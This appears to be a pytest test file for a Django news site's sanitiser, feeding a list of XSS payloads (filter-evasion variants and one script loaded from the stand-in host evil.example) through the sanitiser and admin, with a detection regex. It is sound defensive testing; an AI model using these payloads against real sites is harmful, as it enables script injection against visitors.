@@ -1,0 +1,124 @@
+"""Real XSS payloads through the sanitiser and through the admin into the public page."""
+
+import re
+
+import pytest
+
+from articles.sanitize import sanitize_rich_text
+from tests.factories import ArticleFactory, SectionFactory
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(\'XSS\')">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<a href="javascript:alert(1)">bấm vào đây</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+    '<p style="background:url(javascript:alert(1))">x</p>',
+    '<div style="width: expression(alert(1))">x</div>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<form action="javascript:alert(1)"><button>x</button></form>',
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    '<video><source onerror="alert(1)"></video>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<base href="javascript:alert(1)//">',
+    '<link rel=stylesheet href="javascript:alert(1)">',
+    "<style>@import 'javascript:alert(1)';</style>",
+    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
+    "<<script>script>alert(1)<</script>/script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '<img """><script>alert(1)</script>">',
+    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
+    "<!--<img src=x onerror=alert(1)>-->",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+]
+
+DANGEROUS = re.compile(
+    r"<\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|body)\b"
+    r"|\son[a-z]+\s*="
+    r"|javascript:"
+    r"|data:"
+    r"|expression\(",
+    re.IGNORECASE,
+)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_sanitizer_removes_executable_content(payload):
+    cleaned = sanitize_rich_text(f"<p>Trước</p>{payload}<p>Sau</p>")
+    assert not DANGEROUS.search(cleaned), cleaned
+    assert "<p>Trước</p>" in cleaned
+
+
+def test_sanitizer_keeps_what_ckeditor_produces():
+    html = (
+        "<h2>Tiêu đề phụ</h2><p><strong>Đậm</strong> <em>nghiêng</em> <u>gạch</u></p>"
+        "<ul><li>một</li></ul><ol><li>hai</li></ol><blockquote><p>Trích dẫn</p></blockquote>"
+        '<figure class="image image-center"><img alt="Cầu" height="300" '
+        'src="/media/uploads/cau.jpg" width="400"><figcaption>Cây cầu mới</figcaption></figure>'
+        "<table><thead><tr><th>Năm</th></tr></thead>"
+        "<tbody><tr><td>2017</td></tr></tbody></table>"
+    )
+    assert sanitize_rich_text(html) == html
+
+
+def test_sanitizer_makes_links_safe_to_open():
+    cleaned = sanitize_rich_text(
+        '<a href="https://congbao.example/van-ban" target="_blank">Văn bản</a>'
+    )
+    assert cleaned == (
+        '<a href="https://congbao.example/van-ban" target="_blank" rel="noopener noreferrer">'
+        "Văn bản</a>"
+    )
+
+
+@pytest.mark.django_db
+def test_admin_save_sanitizes_body_before_it_reaches_readers(editor_client):
+    section = SectionFactory()
+    response = editor_client.post(
+        "/admin/articles/article/add/",
+        {
+            "title": "Bài thử mã độc",
+            "section": section.pk,
+            "lead": "Sapo.",
+            "body": "<p>An toàn</p>" + "".join(PAYLOADS),
+            "status": "published",
+            "published_at_0": "01/01/2020",
+            "published_at_1": "08:00:00",
+            "bylines-TOTAL_FORMS": "0",
+            "bylines-INITIAL_FORMS": "0",
+            "photos-TOTAL_FORMS": "0",
+            "photos-INITIAL_FORMS": "0",
+        },
+    )
+    assert response.status_code == 302, response.content.decode()[:3000]
+    from articles.models import Article
+
+    article = Article.objects.get(title="Bài thử mã độc")
+    assert "<p>An toàn</p>" in article.body
+    assert not DANGEROUS.search(article.body)
+    from django.test import Client
+
+    page = Client().get(article.get_absolute_url()).content.decode()
+    body = page.split('<div class="article__body">', 1)[1].split("</div>", 1)[0]
+    assert not DANGEROUS.search(body)
+
+
+@pytest.mark.django_db
+def test_title_and_lead_are_escaped_on_the_page(client):
+    article = ArticleFactory(title="<script>alert(1)</script>", lead="<img src=x onerror=alert(1)>")
+    html = client.get(article.get_absolute_url()).content.decode()
+    assert "<script>alert(1)</script>" not in html
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert "<img src=x onerror" not in html
